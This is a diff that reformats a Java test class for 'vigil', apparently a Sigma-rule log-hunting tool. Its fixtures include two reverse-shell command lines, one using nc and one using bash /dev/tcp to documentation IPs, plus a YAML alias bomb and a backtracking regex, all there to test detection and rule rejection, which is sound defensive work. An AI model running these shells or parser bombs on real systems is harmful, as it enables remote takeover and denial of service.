@@ -79,10 +79,14 @@ class HuntCommandTest {
     @Test
     void jsonlDetectionsCarryRuleSourceAndEvent() throws IOException {
         Path rules = write("rules/whoami.yml", RULE);
-        Path input = write("logs/events.jsonl", String.join("\n",
-                sysmon(41, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
-                sysmon(42, "C:\\Windows\\System32\\whoami.exe", "whoami"),
-                sysmon(43, "C:\\Windows\\System32\\WHOAMI.EXE", "whoami /ALL /fo csv")) + "\n");
+        Path input = write(
+                "logs/events.jsonl",
+                String.join(
+                                "\n",
+                                sysmon(41, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
+                                sysmon(42, "C:\\Windows\\System32\\whoami.exe", "whoami"),
+                                sysmon(43, "C:\\Windows\\System32\\WHOAMI.EXE", "whoami /ALL /fo csv"))
+                        + "\n");
         Run run = vigil("hunt", "--rules", rules.toString(), "--format", "jsonl", input.toString());
         assertThat(run.exit()).as(run.err()).isZero();
         List<JsonNode> lines = run.jsonLines();
@@ -97,7 +101,11 @@ class HuntCommandTest {
         assertThat(first.path("source").path("record").asLong()).isEqualTo(41);
         assertThat(lines.get(1).path("source").path("record").asLong()).isEqualTo(43);
         assertThat(first.path("timestamp").asText()).isEqualTo("2026-01-05T10:00:01Z");
-        assertThat(first.path("event").path("Event").path("EventData").path("CommandLine").asText())
+        assertThat(first.path("event")
+                        .path("Event")
+                        .path("EventData")
+                        .path("CommandLine")
+                        .asText())
                 .isEqualTo("whoami /all");
     }
 
@@ -113,7 +121,8 @@ class HuntCommandTest {
                   condition: keywords
                 level: high
                 """);
-        Path input = write("l.jsonl", "{\"msg\":\"hello\"}\n{\"msg\":\"ok\"}\n{\"cmd\":\"nc -e /bin/sh 10.0.0.1 4444\"}\n");
+        Path input =
+                write("l.jsonl", "{\"msg\":\"hello\"}\n{\"msg\":\"ok\"}\n{\"cmd\":\"nc -e /bin/sh 10.0.0.1 4444\"}\n");
         Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
         assertThat(run.jsonLines()).singleElement().satisfies(d -> {
             assertThat(d.path("source").path("record").asLong()).isEqualTo(3);
@@ -203,9 +212,12 @@ class HuntCommandTest {
                 """);
         StringBuilder in = new StringBuilder();
         for (int i = 1; i <= 3; i++) {
-            in.append("{\"Event\":{\"System\":{\"EventID\":4625,\"EventRecordID\":").append(100 + i)
-                    .append(",\"Channel\":\"Security\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-01-05T10:0")
-                    .append(i).append(":00Z\"}}},\"EventData\":{\"IpAddress\":\"203.0.113.9\"}}}\n");
+            in.append("{\"Event\":{\"System\":{\"EventID\":4625,\"EventRecordID\":")
+                    .append(100 + i)
+                    .append(
+                            ",\"Channel\":\"Security\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-01-05T10:0")
+                    .append(i)
+                    .append(":00Z\"}}},\"EventData\":{\"IpAddress\":\"203.0.113.9\"}}}\n");
         }
         Path input = write("sec.jsonl", in.toString());
         Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
@@ -214,9 +226,15 @@ class HuntCommandTest {
         // The base rule has generate: false (the default), so only the correlation is reported.
         assertThat(lines).singleElement().satisfies(d -> {
             assertThat(d.path("rule").path("title").asText()).isEqualTo("Brute force");
-            assertThat(d.path("correlation").path("group_by").path("IpAddress").asText()).isEqualTo("203.0.113.9");
+            assertThat(d.path("correlation").path("group_by").path("IpAddress").asText())
+                    .isEqualTo("203.0.113.9");
             assertThat(d.path("correlation").path("sources")).hasSize(3);
-            assertThat(d.path("correlation").path("sources").get(0).path("record").asLong()).isEqualTo(101);
+            assertThat(d.path("correlation")
+                            .path("sources")
+                            .get(0)
+                            .path("record")
+                            .asLong())
+                    .isEqualTo(101);
             assertThat(d.path("source").path("record").asLong()).isEqualTo(103);
         });
     }
@@ -225,7 +243,10 @@ class HuntCommandTest {
     void corruptInputIsReportedAndTheRestIsRead() throws IOException {
         Path evtx;
         try (var files = Files.walk(Corpus.require("sigma/regression_data/rules/windows/process_creation"))) {
-            evtx = files.filter(p -> p.toString().endsWith(".evtx")).sorted().findFirst().orElseThrow();
+            evtx = files.filter(p -> p.toString().endsWith(".evtx"))
+                    .sorted()
+                    .findFirst()
+                    .orElseThrow();
         }
         byte[] bytes = Files.readAllBytes(evtx);
         Path truncated = tmp.resolve("in/truncated.evtx");
@@ -273,9 +294,28 @@ class HuntCommandTest {
         StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
         for (char c = 'b'; c <= 'j'; c++) {
             char p = (char) (c - 1);
-            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
-                    .append(p).append(", *").append(p).append(", *").append(p).append(", *").append(p).append(", *")
-                    .append(p).append(", *").append(p).append(", *").append(p).append("]\n");
+            bomb.append(c)
+                    .append(": &")
+                    .append(c)
+                    .append(" [*")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append(", *")
+                    .append(p)
+                    .append("]\n");
         }
         write("rs/bomb.yml", bomb.toString());
         write("rs/backtrack.yml", RULE.replace("Image|endswith: '\\whoami.exe'", "Image|re: '^(a|a)*(?=b)'"));
@@ -286,11 +326,15 @@ class HuntCommandTest {
         assertThat(report.path("loaded").asInt()).isEqualTo(1);
         assertThat(report.path("failed").asInt()).isEqualTo(4);
         List<String> errors = new ArrayList<>();
-        report.path("errors").forEach(e -> errors.add(e.path("file").asText() + ": " + e.path("message").asText()));
+        report.path("errors")
+                .forEach(e -> errors.add(
+                        e.path("file").asText() + ": " + e.path("message").asText()));
         assertThat(errors).anySatisfy(e -> assertThat(e).contains("invalid.yml").contains("invalid YAML"));
         assertThat(errors).anySatisfy(e -> assertThat(e).contains("bomb.yml").containsIgnoringCase("alias"));
-        assertThat(errors).anySatisfy(e -> assertThat(e).contains("backtrack.yml").contains("RE2J"));
-        assertThat(errors).anySatisfy(e -> assertThat(e).contains("notarule.yml").contains("not a Sigma rule"));
+        assertThat(errors)
+                .anySatisfy(e -> assertThat(e).contains("backtrack.yml").contains("RE2J"));
+        assertThat(errors)
+                .anySatisfy(e -> assertThat(e).contains("notarule.yml").contains("not a Sigma rule"));
 
         Run text = vigil("rules", "check", tmp.resolve("rs").toString());
         assertThat(text.out()).contains("FAILED").contains("1 rules loaded, 4 failed");
@@ -298,9 +342,11 @@ class HuntCommandTest {
 
     @Test
     void builtInPackRunsWithoutRulesOption() throws IOException {
-        Path input = write("lin.jsonl", "{\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
-                + "\"Image\":\"/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\","
-                + "\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}\n");
+        Path input = write(
+                "lin.jsonl",
+                "{\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
+                        + "\"Image\":\"/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\","
+                        + "\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}\n");
         Run run = vigil("hunt", "-f", "jsonl", input.toString());
         assertThat(run.exit()).as(run.err()).isZero();
         assertThat(run.jsonLines()).isNotEmpty();
